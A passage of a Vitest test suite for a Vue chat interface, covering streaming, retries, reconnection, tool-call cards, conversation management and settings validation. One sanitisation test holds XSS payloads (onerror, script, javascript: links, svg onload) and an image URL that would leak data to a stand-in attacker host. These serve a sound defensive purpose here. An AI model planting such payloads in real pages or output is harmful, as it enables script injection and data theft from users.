import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { flushPromises, mount, type VueWrapper } from '@vue/test-utils'
import ChatView from '../ChatView.vue'
import { chatStreamDefaultsKey } from '@/composables/useChatStream'
import {
  AFTER_RETRY_MS,
  answer,
  sleep,
  startFakeChatApi,
  startStep,
  toolCall,
  toolResult,
  until,
  type FakeChatApi,
  type Step,
} from '@/__tests__/fakeChatApi'

const LIST_KEY = 'gptaspire.conversations'

/** Where the conversation on screen keeps its messages. */
function currentConversationKey(): string {
  const list = JSON.parse(localStorage.getItem(LIST_KEY) ?? '{}') as { currentId?: string }
  return `${LIST_KEY}.${list.currentId}`
}

let api: FakeChatApi
let wrapper: VueWrapper | undefined

beforeAll(async () => {
  api = await startFakeChatApi()
})
afterAll(() => api.close())
beforeEach(() => {
  localStorage.clear()
  api.reset()
})
afterEach(() => {
  wrapper?.unmount()
  wrapper = undefined
})

function mountChat() {
  wrapper = mount(ChatView, {
    attachTo: document.body,
    global: {
      provide: { [chatStreamDefaultsKey as symbol]: { fetch: api.fetch, reconnectDelaysMs: [50, 100, 200] } },
    },
  })
  return wrapper
}

/** The page once the server's limits (`GET /api/info`) have arrived, as the settings check against them. */
async function mountChatWithLimits() {
  const w = mountChat()
  await waitFor(() => w.text().includes('Temperature (0–2)'), 'the limits of /api/info')
  return w
}

const byTestId = (w: VueWrapper, id: string) => w.findAll(`[data-testid="${id}"]`)
const text = (w: VueWrapper, id: string) => w.find(`[data-testid="${id}"]`).text()
const input = (w: VueWrapper) => w.get<HTMLTextAreaElement>('[data-testid="composer-input"]')

async function type(w: VueWrapper, message: string, key: { shiftKey?: boolean } = {}) {
  await input(w).setValue(message)
  await input(w).trigger('keydown', { key: 'Enter', ...key })
}

/** Polls the DOM (Vue renders on the next tick) until `check` passes. */
async function waitFor(check: () => boolean, what: string, timeoutMs = 3000) {
  await until(
    () => {
      try {
        return check()
      } catch {
        return false
      }
    },
    timeoutMs,
    what,
  )
  await flushPromises()
}

const lastStatus = (w: VueWrapper) => byTestId(w, 'message-assistant').at(-1)?.attributes('data-status')

const startEvent: Step = startStep({ promptTokens: 10, contextWindow: 1000, maxTokens: 500 })

describe('ChatView', () => {
  it('sends on Enter and renders the answer as Markdown while it streams', async () => {
    api.handle(() => ({
      steps: answer(['Some **bold**', ' text', '\n\n```js\nconst a = 1\n  indented()\n```\n'], { delayMs: 200 }),
    }))
    const w = mountChat()

    await type(w, 'Hello there')

    await waitFor(() => w.find('[data-testid="message-assistant"] strong').exists(), 'bold while streaming')
    expect(lastStatus(w)).toBe('streaming')
    expect(w.find('[data-testid="message-assistant"]').text()).not.toContain('indented()')
    expect(byTestId(w, 'stop-button')).toHaveLength(1)

    await waitFor(() => lastStatus(w) === 'done', 'done')
    expect(byTestId(w, 'message-user').map((m) => m.text())).toEqual(['Hello there'])
    const code = w.get('[data-testid="message-assistant"] pre code')
    expect(code.text()).toContain('const a = 1\n  indented()')
    expect(byTestId(w, 'copy-button')).toHaveLength(1)
    expect(text(w, 'usage')).toMatch(/3 tokens · 4,073 left/)
    expect(api.requests).toHaveLength(1)
    expect(api.requests[0]?.body).toEqual({ messages: [{ role: 'user', content: 'Hello there' }] })
    expect(document.activeElement).toBe(input(w).element)
    expect(input(w).element.value).toBe('')
  })

  it('adds a line on Shift+Enter instead of sending', async () => {
    const w = mountChat()

    await type(w, 'first line', { shiftKey: true })
    await sleep(50)

    expect(api.requests).toHaveLength(0)
    expect(byTestId(w, 'message-user')).toHaveLength(0)
  })

  it('sends the whole conversation with each new message', async () => {
    api.handle((_req, index) => ({ steps: answer([`Answer ${index + 1}`]) }))
    const w = mountChat()

    await type(w, 'First')
    await waitFor(() => lastStatus(w) === 'done', 'first answer')
    await type(w, 'Second')
    await waitFor(() => byTestId(w, 'message-assistant').length === 2 && lastStatus(w) === 'done', 'second answer')

    expect(api.requests[1]?.body.messages).toEqual([
      { role: 'user', content: 'First' },
      { role: 'assistant', content: 'Answer 1' },
      { role: 'user', content: 'Second' },
    ])
  })

  it('shows live token count and remaining budget from start and usage', async () => {
    api.handle(() => ({
      steps: [
        startEvent,
        { event: 'token', data: { text: 'a' } },
        { event: 'token', data: { text: 'b' } },
        { delay: 500 },
        { event: 'usage', data: { promptTokens: 10, completionTokens: 5, totalTokens: 15, remainingTokens: 985 } },
        { event: 'finish', data: { reason: 'stop' } },
      ],
    }))
    const w = mountChat()

    await type(w, 'Count')

    await waitFor(() => text(w, 'usage').includes('2 tokens'), 'live count')
    expect(text(w, 'usage')).toContain('988 left')
    expect(text(w, 'max-tokens')).toBe('answer limit 500')
    await waitFor(() => lastStatus(w) === 'done', 'done')
    expect(text(w, 'usage')).toContain('5 tokens')
    expect(text(w, 'usage')).toContain('985 left')
  })

  it('shows ProblemDetails field errors next to the composer and gives the text back', async () => {
    api.handle(() => ({
      status: 400,
      headers: { 'content-type': 'application/problem+json' },
      body: JSON.stringify({
        title: 'One or more validation errors occurred.',
        status: 400,
        errors: { 'messages[0].content': ['Content is too long.'] },
      }),
    }))
    const w = mountChat()

    await type(w, 'Too long')

    await waitFor(() => byTestId(w, 'field-error').length === 1, 'field error')
    expect(text(w, 'field-error')).toBe('Message 1: Content is too long.')
    expect(input(w).element.value).toBe('Too long')
    expect(input(w).attributes('aria-invalid')).toBe('true')
    expect(byTestId(w, 'message-user')).toHaveLength(0)
    expect(byTestId(w, 'message-assistant')).toHaveLength(0)
    await sleep(1100)
    expect(api.requests).toHaveLength(1)
  })

  it('counts down a rate limit, then retries the same conversation in place of the failed answer', async () => {
    api.handle((_req, index) =>
      index === 0
        ? { steps: [startEvent, { event: 'error', data: { code: 'rate_limited', message: 'Too many requests.', retryAfterSeconds: 1 } }] }
        : { steps: answer(['Second', ' try']) },
    )
    const w = mountChat()

    await type(w, 'Hi')

    await waitFor(() => byTestId(w, 'error-notice').length === 1, 'error notice')
    expect(text(w, 'error-notice')).toContain('Rate limited')
    expect(text(w, 'countdown')).toBe('1')
    expect(w.get('[data-testid="retry-button"]').attributes('disabled')).toBeDefined()
    expect(lastStatus(w)).toBe('error')

    await waitFor(() => w.get('[data-testid="retry-button"]').attributes('disabled') === undefined, 'retry enabled', 2500)
    expect(byTestId(w, 'countdown')).toHaveLength(0)
    expect(api.requests).toHaveLength(1)

    await w.get('[data-testid="retry-button"]').trigger('click')
    await waitFor(() => lastStatus(w) === 'done', 'retried answer')

    expect(api.requests).toHaveLength(2)
    expect(api.requests[1]?.body).toEqual(api.requests[0]?.body)
    expect(byTestId(w, 'message-assistant').map((m) => m.find('.markdown').text())).toEqual(['Second try'])
    expect(byTestId(w, 'error-notice')).toHaveLength(0)
  })

  it('offers Retry once every reconnection failed, and POSTs nothing until it is clicked', async () => {
    api.handle((_req, index) =>
      index === 0 ? { steps: answer(['Half']).slice(0, 2), end: 'destroy' } : { steps: answer(['Whole']) },
    )
    const w = mountChat()

    await type(w, 'Hi')

    await waitFor(() => byTestId(w, 'error-notice').length === 1, 'error notice')
    expect(text(w, 'error-notice')).toContain('Connection lost')
    expect(lastStatus(w)).toBe('error')
    await sleep(AFTER_RETRY_MS)
    expect(api.posts()).toHaveLength(1)
    expect(api.resumes()).toHaveLength(3)

    await w.get('[data-testid="retry-button"]').trigger('click')
    await waitFor(() => lastStatus(w) === 'done', 'retried answer')
    expect(byTestId(w, 'message-assistant')).toHaveLength(1)
    expect(api.posts()[1]?.body.messages).toEqual([{ role: 'user', content: 'Hi' }])
  })

  it('Stop aborts the request, keeps the partial answer marked stopped and refocuses the input', async () => {
    api.handle(() => ({ steps: answer(['Partial', ' answer']).slice(0, 3), end: 'hang' }))
    const w = mountChat()

    await type(w, 'Hi')
    await waitFor(() => w.find('[data-testid="message-assistant"]').text().includes('Partial answer'), 'partial')
    ;(document.body as HTMLElement).focus()
    await w.get('[data-testid="stop-button"]').trigger('click')

    await waitFor(() => lastStatus(w) === 'stopped', 'stopped')
    await api.requests[0]!.closed
    expect(api.requests[0]!.aborted).toBe(true)
    expect(w.find('[data-testid="message-assistant"] .markdown').text()).toBe('Partial answer')
    expect(byTestId(w, 'send-button')).toHaveLength(1)
    expect(document.activeElement).toBe(input(w).element)
    await until(() => api.stops().length === 1, 2000, 'the stop request')
    expect(api.stops()[0]?.url).toBe('/api/chat/stream/req-1/stop')
    await sleep(AFTER_RETRY_MS)
    expect(api.posts()).toHaveLength(1)
    expect(api.resumes()).toHaveLength(0)
  })

  it('Esc stops the answer', async () => {
    api.handle(() => ({ steps: answer(['Going']).slice(0, 2), end: 'hang' }))
    const w = mountChat()

    await type(w, 'Hi')
    await waitFor(() => lastStatus(w) === 'streaming' && w.text().includes('Going'), 'streaming')
    await input(w).trigger('keydown', { key: 'Escape' })

    await waitFor(() => lastStatus(w) === 'stopped', 'stopped')
    await api.requests[0]!.closed
  })

  it.each([
    ['length', 'Answer cut at the token limit'],
    ['content_filter', 'content filter'],
  ] as const)('explains a %s finish', async (reason, notice) => {
    api.handle(() => ({ steps: answer(['Cut'], { reason }) }))
    const w = mountChat()

    await type(w, 'Hi')

    await waitFor(() => byTestId(w, 'finish-notice').length === 1, 'finish notice')
    expect(text(w, 'finish-notice')).toContain(notice)
  })

  it('keeps hostile Markdown inert', async () => {
    const hostile = [
      'Look: <img src=x onerror="globalThis.__pwned = 1">',
      '\n\n<script>globalThis.__pwned = 2</script>',
      '\n\n[click me](javascript:globalThis.__pwned=3) and <a href="javascript:alert(4)">raw</a>',
      '\n\n![leak](https://attacker.example/leak?q=secret)',
      '\n\n<svg onload="globalThis.__pwned = 5"></svg>',
    ]
    api.handle(() => ({ steps: answer(hostile, { delayMs: 20 }) }))
    const w = mountChat()

    await type(w, 'Be evil')
    await waitFor(() => lastStatus(w) === 'done', 'done')
    await sleep(50)

    const answerEl = w.get('[data-testid="message-assistant"]').element
    expect(answerEl.querySelectorAll('img, script, svg, iframe')).toHaveLength(0)
    const handlers = [...answerEl.querySelectorAll('*')].flatMap((el) =>
      [...el.attributes].filter((attr) => attr.name.startsWith('on')).map((attr) => attr.name),
    )
    expect(handlers).toEqual([])
    for (const link of answerEl.querySelectorAll('a')) {
      expect(link.getAttribute('href') ?? '').not.toMatch(/^\s*javascript:/i)
    }
    expect(answerEl.innerHTML).not.toMatch(/<script/i)
    expect((globalThis as { __pwned?: number }).__pwned).toBeUndefined()
    // The model's HTML shows as text.
    expect(answerEl.textContent).toContain('<img src=x onerror=')
  })

  it('copies a code block', async () => {
    const writeText = vi.fn(() => Promise.resolve())
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
    api.handle(() => ({ steps: answer(['```\nline 1\n    line 2\n```\n']) }))
    const w = mountChat()

    await type(w, 'Code please')
    await waitFor(() => byTestId(w, 'copy-button').length === 1 && lastStatus(w) === 'done', 'code block')
    await w.get('[data-testid="copy-button"]').trigger('click')

    await waitFor(() => text(w, 'copy-button') === 'Copied', 'copied')
    expect(writeText).toHaveBeenCalledWith('line 1\n    line 2\n')
  })

  it('keeps the conversation across a reload', async () => {
    api.handle(() => ({ steps: answer(['Remembered']) }))
    const first = mountChat()
    await type(first, 'Remember me')
    await waitFor(() => lastStatus(first) === 'done', 'done')
    first.unmount()

    const second = mountChat()

    expect(byTestId(second, 'message-user').map((m) => m.text())).toEqual(['Remember me'])
    expect(second.get('[data-testid="message-assistant"] .markdown').text()).toBe('Remembered')
    expect(lastStatus(second)).toBe('done')
  })

  it('shows a tool call`s card while it runs, then its result, then the answer; after a reload it is still there', async () => {
    const ending = answer([]).slice(1)
    api.handle(() => ({
      steps: [
        startStep(),
        toolCall('c1', 'calculate', { expression: '(12.5+7)*3' }),
        { delay: 400 },
        toolResult('c1', 'calculate', { result: { expression: '(12.5+7)*3', value: 58.5 } }, 17),
        { delay: 200 },
        { event: 'token', data: { text: 'It is 58.5.' } },
        ...ending,
      ],
    }))
    const w = mountChat()
    const card = () => w.get('[data-testid="message-assistant"] [data-tool-call="c1"]')
    await type(w, 'What is (12.5+7)*3?')

    await waitFor(() => card().attributes('data-tool-status') === 'running', 'the running card')
    expect(card().get('summary').text()).toContain('Running…')
    expect(w.get('[data-testid="message-assistant"] .markdown').text()).not.toContain('58.5.')
    await waitFor(() => card().attributes('data-tool-status') === 'done', 'the result')
    expect(card().get('summary').text()).toContain('Done in 17 ms')
    await waitFor(() => lastStatus(w) === 'done', 'the answer')
    expect(w.get('[data-testid="message-assistant"] .markdown').text()).toMatch(/Done in 17 ms.*It is 58\.5\.$/s)

    w.unmount()
    wrapper = undefined
    const reloaded = mountChat()

    const kept = reloaded.get('[data-testid="message-assistant"] [data-tool-call="c1"]')
    expect(kept.attributes('data-tool-status')).toBe('done')
    await kept.get('summary').trigger('click')
    expect(kept.get('[data-testid="tool-call-result"]').text()).toContain('"value": 58.5')
  })

  it('resumes an answer that was streaming when the page was reloaded, from where it was', async () => {
    const steps = answer(['Half', ' way', ' there'])
    api.handle(() => ({ steps: [...steps.slice(0, 3), { delay: 1000 }, ...steps.slice(3)] }))
    const w = mountChat()
    await type(w, 'Long one')
    await waitFor(() => w.text().includes('Half way'), 'partial')
    // Saving is throttled; wait until the partial answer is stored, as a reload later would find it.
    const key = currentConversationKey()
    await waitFor(() => (localStorage.getItem(key) ?? '').includes('Half way'), 'stored')

    // What a reload would find, before the page could react to going away.
    const stored = localStorage.getItem(key)
    w.unmount()
    wrapper = undefined
    localStorage.setItem(key, stored!)

    const reloaded = mountChat()

    expect(reloaded.get('[data-testid="message-assistant"] .markdown').text()).toBe('Half way')
    expect(lastStatus(reloaded)).toBe('streaming')
    await waitFor(() => lastStatus(reloaded) === 'done', 'resumed answer')
    expect(reloaded.get('[data-testid="message-assistant"] .markdown').text()).toBe('Half way there')
    expect(api.posts()).toHaveLength(1)
    expect(api.resumes().map((r) => [r.url, r.headers['last-event-id']])).toEqual([['/api/chat/stream/req-1', '2']])
    // Leaving the page is not a stop: the generation was left running for the reload.
    expect(api.stops()).toHaveLength(0)
  })

  it('shows Reconnecting while a lost connection is resumed, and the answer completes once', async () => {
    const steps = answer(['Before', ' the cut', ' and after'])
    api.handle(() => ({ steps: [...steps.slice(0, 3), { disconnect: true }, { delay: 100 }, ...steps.slice(3)] }))
    api.handleResume((_req, index) =>
      index === 0 ? { status: 502, headers: { 'content-type': 'text/plain' }, body: 'Bad gateway' } : undefined,
    )
    const w = mountChat()

    await type(w, 'Hi')

    await waitFor(() => byTestId(w, 'reconnecting').length === 1, 'reconnecting notice')
    expect(text(w, 'reconnecting')).toMatch(/Connection lost\. Reconnecting… \(try [12] of 3\)/)
    expect(lastStatus(w)).toBe('streaming')
    await waitFor(() => lastStatus(w) === 'done', 'done')
    expect(byTestId(w, 'reconnecting')).toHaveLength(0)
    expect(w.get('[data-testid="message-assistant"] .markdown').text()).toBe('Before the cut and after')
    expect(byTestId(w, 'error-notice')).toHaveLength(0)
    expect(api.posts()).toHaveLength(1)
    expect(api.resumes()).toHaveLength(2)
  })

  it('says clearly when the answer is gone (404 on resume), keeping the text received', async () => {
    api.handle(() => ({ steps: [...answer(['Kept part', ' lost part']).slice(0, 2), { disconnect: true }, { delay: 2000 }] }))
    api.handleResume(() => {
      api.expire('req-1')
      return undefined
    })
    const w = mountChat()

    await type(w, 'Hi')

    await waitFor(() => byTestId(w, 'error-notice').length === 1, 'error notice')
    expect(text(w, 'error-notice')).toContain('The answer is gone.')
    expect(text(w, 'error-notice')).toContain('The text received so far is kept.')
    expect(w.get('[data-testid="message-assistant"] .markdown').text()).toBe('Kept part')
    expect(lastStatus(w)).toBe('error')
    expect(byTestId(w, 'retry-button')).toHaveLength(1)
    expect(api.posts()).toHaveLength(1)
  })

  it('counts down the Retry-After of a busy API (503) before Retry is possible', async () => {
    api.handle((_req, index) =>
      index === 0
        ? {
            status: 503,
            headers: { 'content-type': 'application/problem+json', 'retry-after': '1' },
            body: JSON.stringify({ title: 'Service Unavailable', status: 503, detail: 'Too many answers at once.' }),
          }
        : { steps: answer(['Now', ' there is room']) },
    )
    const w = mountChat()

    await type(w, 'Hi')

    await waitFor(() => byTestId(w, 'error-notice').length === 1, 'error notice')
    expect(text(w, 'error-notice')).toContain('The service is busy. Too many answers at once.')
    expect(text(w, 'countdown')).toBe('1')
    expect(w.get('[data-testid="retry-button"]').attributes('disabled')).toBeDefined()
    await waitFor(() => w.get('[data-testid="retry-button"]').attributes('disabled') === undefined, 'retry enabled', 2500)

    await w.get('[data-testid="retry-button"]').trigger('click')
    await waitFor(() => lastStatus(w) === 'done', 'retried answer')
    expect(w.get('[data-testid="message-assistant"] .markdown').text()).toBe('Now there is room')
    expect(api.posts()).toHaveLength(2)
  })

  it('New chat starts an empty conversation and keeps the last one in the list', async () => {
    api.handle(() => ({ steps: answer(['Bye']) }))
    const w = mountChat()
    await type(w, 'Hi')
    await waitFor(() => lastStatus(w) === 'done', 'done')
    const firstKey = currentConversationKey()

    await w.get('[data-testid="new-chat-button"]').trigger('click')
    await flushPromises()

    expect(byTestId(w, 'message-user')).toHaveLength(0)
    expect(byTestId(w, 'message-assistant')).toHaveLength(0)
    expect(document.activeElement).toBe(input(w).element)
    expect(byTestId(w, 'conversation-select').map((b) => b.text())).toEqual(['New chat', 'Hi'])
    expect(w.get('[data-testid="new-chat-button"]').attributes('disabled')).toBeDefined()
    expect(localStorage.getItem(firstKey)).toContain('Bye')
  })

  it('edits the last user message and asks again', async () => {
    api.handle((req) => ({ steps: answer([`You said: ${req.body.messages.at(-1)?.content}`]) }))
    const w = mountChat()
    await type(w, 'Helo')
    await waitFor(() => lastStatus(w) === 'done', 'first answer')

    await w.get('[data-testid="edit-button"]').trigger('click')
    expect(input(w).element.value).toBe('Helo')
    await type(w, 'Hello')
    await waitFor(() => w.text().includes('You said: Hello'), 'second answer')

    expect(api.requests[1]?.body.messages).toEqual([{ role: 'user', content: 'Hello' }])
    expect(byTestId(w, 'message-user').map((m) => m.text())).toEqual(['Hello'])
    expect(byTestId(w, 'message-assistant')).toHaveLength(1)
  })
  it('switches between conversations from the list, each with its own messages', async () => {
    api.handle((req) => ({ steps: answer([`Re: ${req.body.messages.at(-1)?.content}`]) }))
    const w = mountChat()
    await type(w, 'Alpha')
    await waitFor(() => lastStatus(w) === 'done', 'first answer')
    await w.get('[data-testid="new-chat-button"]').trigger('click')
    await type(w, 'Beta')
    await waitFor(() => lastStatus(w) === 'done', 'second answer')

    const items = () => byTestId(w, 'conversation-select')
    expect(items().map((b) => b.text())).toEqual(['Beta', 'Alpha'])
    expect(items()[0]?.attributes('aria-current')).toBe('page')
    expect(text(w, 'conversation-title')).toBe('Beta')

    await items()[1]!.trigger('click')

    expect(byTestId(w, 'message-user').map((m) => m.text())).toEqual(['Alpha'])
    expect(w.get('[data-testid="message-assistant"] .markdown').text()).toBe('Re: Alpha')
    expect(items()[1]?.attributes('aria-current')).toBe('page')
    expect(items()[0]?.attributes('aria-current')).toBeUndefined()
    expect(text(w, 'conversation-title')).toBe('Alpha')
    expect(document.activeElement).toBe(input(w).element)
  })

  it('renames a conversation with the keyboard: Enter keeps the name, Escape drops it', async () => {
    const w = mountChat()
    await type(w, 'Question')
    await waitFor(() => lastStatus(w) === 'done', 'answer')

    await w.get('[data-testid="rename-conversation"]').trigger('click')
    const field = w.get<HTMLInputElement>('[data-testid="rename-input"]')
    expect(document.activeElement).toBe(field.element)
    expect(field.element.value).toBe('Question')
    await field.setValue('Budget 2027')
    await w.get('.conversation-list__rename').trigger('submit')

    expect(text(w, 'conversation-select')).toBe('Budget 2027')
    expect(text(w, 'conversation-title')).toBe('Budget 2027')
    await flushPromises()
    expect(document.activeElement).toBe(w.get('[data-testid="conversation-select"]').element)

    await w.get('[data-testid="rename-conversation"]').trigger('click')
    await w.get('[data-testid="rename-input"]').setValue('Not this')
    await w.get('[data-testid="rename-input"]').trigger('keydown', { key: 'Escape' })
    expect(text(w, 'conversation-select')).toBe('Budget 2027')
    expect(localStorage.getItem(LIST_KEY)).toContain('Budget 2027')
  })

  it('deletes a conversation only once confirmed', async () => {
    api.handle((req) => ({ steps: answer([`Re: ${req.body.messages.at(-1)?.content}`]) }))
    const w = mountChat()
    await type(w, 'Keep')
    await waitFor(() => lastStatus(w) === 'done', 'first')
    await w.get('[data-testid="new-chat-button"]').trigger('click')
    await type(w, 'Drop')
    await waitFor(() => lastStatus(w) === 'done', 'second')

    await byTestId(w, 'delete-conversation')[0]!.trigger('click')
    expect(w.text()).toContain('Delete “Drop”?')
    await w.get('.conversation-list__confirm .button:not(.button--stop)').trigger('click')
    expect(byTestId(w, 'conversation-select').map((b) => b.text())).toEqual(['Drop', 'Keep'])

    await byTestId(w, 'delete-conversation')[0]!.trigger('click')
    await w.get('[data-testid="confirm-delete"]').trigger('click')

    expect(byTestId(w, 'conversation-select').map((b) => b.text())).toEqual(['Keep'])
    expect(byTestId(w, 'message-user').map((m) => m.text())).toEqual(['Keep'])
  })

  it('treats what a number field cannot parse (1e, --5) as an error, not as empty', async () => {
    const w = await mountChatWithLimits()
    await w.get('[data-testid="settings-button"]').trigger('click')
    const field = w.get<HTMLInputElement>('[data-testid="settings-max-tokens"]')
    // A browser reports such text as value '' with validity.badInput set (jsdom does not parse numbers).
    Object.defineProperty(field.element, 'validity', { value: { badInput: true } })
    await field.setValue('')

    expect(field.attributes('aria-invalid')).toBe('true')
    expect(w.text()).toContain('Use a whole number from 1 to 16,384, or leave it empty.')
  })

  it('moves the focus into the conversation list when its button opens it, and Esc closes it', async () => {
    const w = mountChat()
    await w.get('[data-testid="conversations-button"]').trigger('click')
    await flushPromises()
    expect(document.getElementById('conversation-list')?.contains(document.activeElement)).toBe(true)

    await w.get('[data-testid="conversations-button"]').trigger('keydown', { key: 'Escape' })
    expect(w.get('[data-testid="conversations-button"]').attributes('aria-expanded')).toBe('false')
  })

  it('sends the settings of the conversation, and refuses values the API would reject', async () => {
    const w = await mountChatWithLimits()
    await w.get('[data-testid="settings-button"]').trigger('click')
    expect(w.get('[data-testid="settings-button"]').attributes('aria-expanded')).toBe('true')

    await w.get('[data-testid="settings-system-prompt"]').setValue('Answer like a pirate.')
    await w.get('[data-testid="settings-temperature"]').setValue('3')
    expect(w.get('[data-testid="settings-temperature"]').attributes('aria-invalid')).toBe('true')
    expect(w.text()).toContain('Use a number from 0 to 2, or leave it empty.')
    await w.get('[data-testid="settings-max-tokens"]').setValue('64')

    // A value the API would refuse stops Send, and the composer names the field to fix.
    await type(w, 'Hello')
    await flushPromises()
    expect(api.posts()).toHaveLength(0)
    expect(w.get('[data-testid="send-button"]').attributes('disabled')).toBeDefined()
    expect(byTestId(w, 'field-error').map((e) => e.text())).toEqual(['Temperature: Use a number from 0 to 2, or leave it empty.'])
    expect(document.activeElement).toBe(w.get('[data-testid="settings-temperature"]').element)
    // What was typed stays in the field beside its error, to be fixed, through every render since.
    expect(w.get<HTMLInputElement>('[data-testid="settings-temperature"]').element.value).toBe('3')

    await w.get('[data-testid="settings-temperature"]').setValue('')
    expect(byTestId(w, 'field-error')).toHaveLength(0)
    await type(w, 'Hello')
    await waitFor(() => lastStatus(w) === 'done', 'answer')

    expect(api.posts()[0]?.body).toEqual({
      messages: [
        { role: 'system', content: 'Answer like a pirate.' },
        { role: 'user', content: 'Hello' },
      ],
      maxTokens: 64,
    })

    await w.get('[data-testid="settings-temperature"]').setValue('0.2')
    await type(w, 'Again')
    await waitFor(() => byTestId(w, 'message-assistant').length === 2 && lastStatus(w) === 'done', 'second answer')
    expect(api.posts()[1]?.body.temperature).toBe(0.2)

    // Saved with the conversation: a reload shows them again.
    w.unmount()
    wrapper = undefined
    const reloaded = mountChat()
    expect(reloaded.get<HTMLTextAreaElement>('[data-testid="settings-system-prompt"]').element.value).toBe(
      'Answer like a pirate.',
    )
    expect(reloaded.get<HTMLInputElement>('[data-testid="settings-max-tokens"]').element.value).toBe('64')
    expect(reloaded.get<HTMLInputElement>('[data-testid="settings-temperature"]').element.value).toBe('0.2')
  })

  it('regenerates the last answer from the same conversation', async () => {
    api.handle((_req, index) => ({ steps: answer([`Take ${index + 1}`]) }))
    const w = mountChat()
    await type(w, 'Tell me a joke')
    await waitFor(() => lastStatus(w) === 'done', 'first answer')

    await w.get('[data-testid="regenerate-button"]').trigger('click')
    await waitFor(() => w.text().includes('Take 2') && lastStatus(w) === 'done', 'second answer')

    expect(api.posts()[1]?.body).toEqual(api.posts()[0]?.body)
    expect(byTestId(w, 'message-assistant').map((m) => m.find('.markdown').text())).toEqual(['Take 2'])
    expect(byTestId(w, 'message-user')).toHaveLength(1)
  })

  it('does not regenerate under a setting the server would refuse: it shows the setting to fix', async () => {
    const w = await mountChatWithLimits()
    await type(w, 'Tell me a joke')
    await waitFor(() => lastStatus(w) === 'done', 'first answer')
    await w.get('[data-testid="settings-button"]').trigger('click')
    await w.get('[data-testid="settings-max-tokens"]').setValue('0')

    await w.get('[data-testid="regenerate-button"]').trigger('click')
    await flushPromises()

    expect(api.posts()).toHaveLength(1)
    expect(document.activeElement).toBe(w.get('[data-testid="settings-max-tokens"]').element)
    expect(byTestId(w, 'field-error').map((e) => e.text())).toEqual([
      'Maximum answer tokens: Use a whole number from 1 to 16,384, or leave it empty.',
    ])
  })

  it('copies a whole answer as its Markdown', async () => {
    const writeText = vi.fn(() => Promise.resolve())
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
    api.handle(() => ({ steps: answer(['# Title', '\n\nSome **bold**', '\n\n```js\nx()\n```\n']) }))
    const w = mountChat()
    await type(w, 'Copy this')
    await waitFor(() => lastStatus(w) === 'done', 'answer')

    await w.get('[data-testid="copy-answer-button"]').trigger('click')

    await waitFor(() => text(w, 'copy-answer-button') === 'Copied', 'copied')
    expect(writeText).toHaveBeenCalledWith('# Title\n\nSome **bold**\n\n```js\nx()\n```\n')
  })

  it('counts the seconds waited for a slow first token', async () => {
    api.handle(() => ({ steps: [startEvent, { delay: 2300 }, ...answer(['Finally']).slice(1)] }))
    const w = mountChat()
    await type(w, 'Slow one')

    await waitFor(() => byTestId(w, 'first-token-wait').length === 1, 'waiting shown')
    expect(text(w, 'waited-seconds')).toBe('0')
    await waitFor(() => text(w, 'waited-seconds') === '2', 'two seconds', 3500)
    await waitFor(() => lastStatus(w) === 'done', 'answer')
    expect(byTestId(w, 'first-token-wait')).toHaveLength(0)
    expect(w.get('[data-testid="message-assistant"] .markdown').text()).toBe('Finally')
  })
  it('names field errors after what the person wrote, not the system prompt sent before it', async () => {
    api.handle(() => ({
      status: 400,
      headers: { 'content-type': 'application/problem+json' },
      body: JSON.stringify({
        title: 'One or more validation errors occurred.',
        status: 400,
        errors: { 'messages[0].content': ['Too long.'], 'messages[1].content': ['Also too long.'] },
      }),
    }))
    const w = mountChat()
    await w.get('[data-testid="settings-button"]').trigger('click')
    await w.get('[data-testid="settings-system-prompt"]').setValue('A very long system prompt')

    await type(w, 'Hi')

    await waitFor(() => byTestId(w, 'field-error').length === 2, 'field errors')
    expect(byTestId(w, 'field-error').map((e) => e.text())).toEqual([
      'System prompt: Too long.',
      'Message 1: Also too long.',
    ])
  })
})

describe('ChatView: what the page says about itself', () => {
  it('marks the model as the emulator when /api/info says the emulator answers', async () => {
    const w = mountChat()

    await waitFor(() => byTestId(w, 'emulator-badge').length === 1, 'the emulator badge')
    expect(text(w, 'emulator-badge')).toBe('emulator')
    expect(text(w, 'model-name')).toBe('gpt-test')
  })

  it('closes Settings with Esc and gives the focus back to its button', async () => {
    const w = await mountChatWithLimits()
    const button = w.get<HTMLButtonElement>('[data-testid="settings-button"]')
    button.element.focus()
    await button.trigger('click')
    w.get<HTMLTextAreaElement>('[data-testid="settings-system-prompt"]').element.focus()

    await w.get('[data-testid="settings-system-prompt"]').trigger('keydown', { key: 'Escape' })

    expect(button.attributes('aria-expanded')).toBe('false')
    expect(w.get('#chat-settings').isVisible()).toBe(false)
    expect(document.activeElement).toBe(button.element)
  })

  it('names the settings that are not the defaults above the composer, and opens Settings from there', async () => {
    api.handle(() => ({ steps: answer(['Hello']) }))
    const w = await mountChatWithLimits()
    expect(byTestId(w, 'settings-in-effect')).toHaveLength(0)

    await w.get('[data-testid="settings-button"]').trigger('click')
    await w.get('[data-testid="settings-system-prompt"]').setValue('Be brief.')
    await w.get('[data-testid="settings-temperature"]').setValue('0.3')
    await w.get('[data-testid="settings-button"]').trigger('click')
    await waitFor(() => byTestId(w, 'settings-in-effect').length === 1, 'the settings line')
    expect(text(w, 'settings-in-effect')).toContain('Using System prompt · Temperature 0.3')

    // A new chat carries them: the line says so there too.
    await type(w, 'Hi')
    await waitFor(() => lastStatus(w) === 'done', 'answer')
    await w.get('[data-testid="new-chat-button"]').trigger('click')
    await waitFor(() => byTestId(w, 'settings-in-effect').length === 1, 'the line in the new chat')

    await w.get('[data-testid="settings-in-effect-button"]').trigger('click')
    expect(w.get('[data-testid="settings-button"]').attributes('aria-expanded')).toBe('true')
    await waitFor(
      () => document.activeElement === w.get('[data-testid="settings-system-prompt"]').element,
      'the focus in the panel',
    )
  })

  it('a reload mid-answer shows the answer`s model and context left before it ends', async () => {
    const steps = answer(['Half', ' way', ' there'], { model: 'gpt-resumed', promptTokens: 100, contextWindow: 1000 })
    api.handle(() => ({ steps: [...steps.slice(0, 3), { delay: 1500 }, ...steps.slice(3)] }))
    const w = mountChat()
    await type(w, 'Long one')
    await waitFor(() => w.text().includes('Half way'), 'partial')
    const key = currentConversationKey()
    await waitFor(() => (localStorage.getItem(key) ?? '').includes('Half way'), 'stored')
    const stored = localStorage.getItem(key)
    w.unmount()
    wrapper = undefined
    localStorage.setItem(key, stored!)

    const reloaded = mountChat()

    expect(lastStatus(reloaded)).toBe('streaming')
